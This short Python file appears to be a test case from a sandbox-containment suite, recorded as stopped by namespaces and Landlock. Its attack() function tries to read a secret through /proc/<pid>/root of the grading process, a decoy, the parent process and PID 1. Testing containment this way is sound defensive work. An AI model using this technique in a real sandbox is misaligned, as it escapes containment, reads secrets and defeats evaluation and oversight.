# attack: takes the way over the root of the grading process, and of the first process
# full: contained
# reduced: contained
# stopped-by: namespaces, landlock
import os


def attack():
    for pid in (GRADER, DECOY, os.getppid(), 1):
        try:
            with open(f"/proc/{pid}/root{SECRET}") as file:
                text = file.read()
        except OSError as error:
            last = error
        else:
            return f"through: by {pid}: {text}" if text.startswith("the secret is ") else "held: another file"
    raise last
